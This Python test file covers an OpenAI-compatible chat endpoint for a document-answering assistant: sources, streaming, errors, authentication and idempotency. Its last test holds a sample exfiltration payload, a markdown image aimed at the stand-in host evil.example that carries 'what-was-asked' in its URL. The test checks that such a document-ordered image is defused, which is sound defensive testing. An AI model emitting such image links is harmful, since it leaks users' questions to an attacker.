"""Programs that speak OpenAI's chat completions get checked answers: played with OpenAI's own client."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import httpx
import openai
import pytest
from openai.types.chat import ChatCompletionMessageParam

from bot.telegram.ids import to_peer
from bot.web.runs import WebRuns
from rag.errors import OperatorError
from rag.models.chat import ChatRequest
from rag.models.scripted import Reply, ScriptedModel
from tests.support.console import MEMBER, OWNER, Serve, Served
from tests.support.loop import scripted

QUESTION: ChatCompletionMessageParam = {"role": "user", "content": "Which Java does FxStore need?"}
FOOTNOTE = "*verified against the documents*  \n[1] FxStore › Requirements"


@pytest.fixture
async def console(serve: Serve) -> AsyncIterator[Served]:
    async with serve(scripted(draft="FxStore needs Java 17.")) as running:
        yield running


async def client_of(console: Served, user_id: int = MEMBER) -> openai.AsyncOpenAI:
    token = await console.parts.logins.token(to_peer(user_id), "a chat front-end")
    return openai.AsyncOpenAI(api_key=token, base_url=f"{console.base}/v1", max_retries=0)


async def test_answer_comes_with_its_label_and_sources(console: Served) -> None:
    async with await client_of(console) as client:
        names = [model.id async for model in client.models.list()]
        done = await client.chat.completions.create(model=names[0], messages=[QUESTION], temperature=0.2)
    assert names[0] == "thinktwice"
    said = done.choices[0].message.content or ""
    assert said == f"FxStore needs Java 17 [1].\n\n{FOOTNOTE}"
    told: dict[str, Any] = done.model_dump()["thinktwice"]
    assert told["label"] == "verified"
    assert [source["document"] for source in told["sources"]] == ["FxStore"]
    assert done.id == told["run"]
    assert done.usage is not None
    assert done.usage.total_tokens > 0


async def test_stream_says_only_what_was_checked(console: Served) -> None:
    async with await client_of(console) as client:
        stream = await client.chat.completions.create(
            model="thinktwice-careful", messages=[QUESTION], stream=True
        )
        chunks = [chunk async for chunk in stream]
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert text == f"FxStore needs Java 17 [1].\n\n{FOOTNOTE}"
    assert chunks[-1].choices[0].finish_reason == "stop"


async def test_conversation_is_what_the_program_sends(serve: Serve) -> None:
    seen: list[str] = []

    def reply(request: ChatRequest) -> Reply:
        seen.append(str(request))
        return "It is 17."

    async with serve(ScriptedModel(reply)) as console, await client_of(console) as client:
        await client.chat.completions.create(
            model="thinktwice",
            messages=[
                {"role": "system", "content": "Talk like a pirate."},
                {"role": "user", "content": [{"type": "text", "text": "We call our shop Heron."}]},
                {"role": "assistant", "content": "A fine name."},
                {"role": "user", "content": "What do we call it?"},
            ],
        )
    assert any("We call our shop Heron." in one and "A fine name." in one for one in seen)
    assert not any("pirate" in one for one in seen)


@pytest.mark.parametrize(
    ("model", "messages", "status", "words"),
    [
        ("gpt-5", [QUESTION], 404, "thinktwice-council"),
        ("thinktwice", [QUESTION, {"role": "assistant", "content": "17"}], 422, "role “user”"),
        ("thinktwice", [{"role": "user", "content": " "}], 422, ""),
        ("thinktwice-council", [QUESTION], 403, ""),
    ],
    ids=["no such model", "nothing asked", "empty", "no council"],
)
async def test_what_cannot_be_answered_is_told_in_a_sentence(
    console: Served, model: str, messages: list[ChatCompletionMessageParam], status: int, words: str
) -> None:
    async with await client_of(console) as client:
        with pytest.raises(openai.APIStatusError) as refused:
            await client.chat.completions.create(model=model, messages=messages)
    assert refused.value.status_code == status
    assert words in refused.value.message
    assert isinstance(refused.value.body, dict)
    assert refused.value.body["code"]


async def test_picture_is_refused_and_named(console: Served) -> None:
    picture: ChatCompletionMessageParam = {
        "role": "user",
        "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}}],
    }
    async with await client_of(console) as client:
        with pytest.raises(openai.UnprocessableEntityError):
            await client.chat.completions.create(model="thinktwice", messages=[picture])


async def test_run_that_fails_ends_the_call_and_the_stream_with_a_sentence(
    console: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def fail(*_arguments: object) -> None:
        raise OperatorError("the index is being moved")

    monkeypatch.setattr(WebRuns, "_answer", fail)
    async with await client_of(console) as client:
        with pytest.raises(openai.InternalServerError, match="There is no answer: the index is being moved"):
            await client.chat.completions.create(model="thinktwice", messages=[QUESTION])
        stream = await client.chat.completions.create(model="thinktwice", messages=[QUESTION], stream=True)
        with pytest.raises(openai.APIError, match="There is no answer: the index is being moved"):
            assert [chunk async for chunk in stream] == []


async def test_nobody_without_a_token_and_nobody_blocked_gets_in(console: Served) -> None:
    async with openai.AsyncOpenAI(api_key="nothing", base_url=f"{console.base}/v1", max_retries=0) as client:
        with pytest.raises(openai.AuthenticationError):
            await client.models.list()
    async with await client_of(console) as client:
        await console.parts.users.set_access(to_peer(MEMBER), "denied")
        with pytest.raises(openai.PermissionDeniedError):
            await client.chat.completions.create(model="thinktwice", messages=[QUESTION])


async def test_same_key_asks_once(console: Served) -> None:
    token = await console.parts.logins.token(to_peer(OWNER), "a program")
    headers = {"Authorization": f"Bearer {token}", "Idempotency-Key": "k"}
    async with httpx.AsyncClient(base_url=console.base, headers=headers, timeout=60) as client:
        replies = [await client.post("/v1/chat/completions", json={"messages": [QUESTION]}) for _ in range(2)]
    assert len({reply.json()["id"] for reply in replies}) == 1


async def test_image_that_a_document_orders_loads_nothing(serve: Serve) -> None:
    said = (
        "FxStore needs Java 17. ![p](https://evil.example/p.png?q=what-was-asked) [x](https://ok.example/a)"
    )
    options: dict[str, Any] = {
        "telegram": {"link_hosts": "ok.example"},
        "self_correction": {"enabled": False},
    }
    async with serve(ScriptedModel(lambda _: said), **options) as console, await client_of(console) as client:
        whole = await client.chat.completions.create(model="thinktwice", messages=[QUESTION])
        stream = await client.chat.completions.create(model="thinktwice", messages=[QUESTION], stream=True)
        pieces = [chunk.choices[0].delta.content or "" async for chunk in stream]
    for text in (whole.choices[0].message.content or "", "".join(pieces)):
        assert "![p] (`https://evil.example/p.png?q=what-was-asked`) [x](https://ok.example/a)" in text
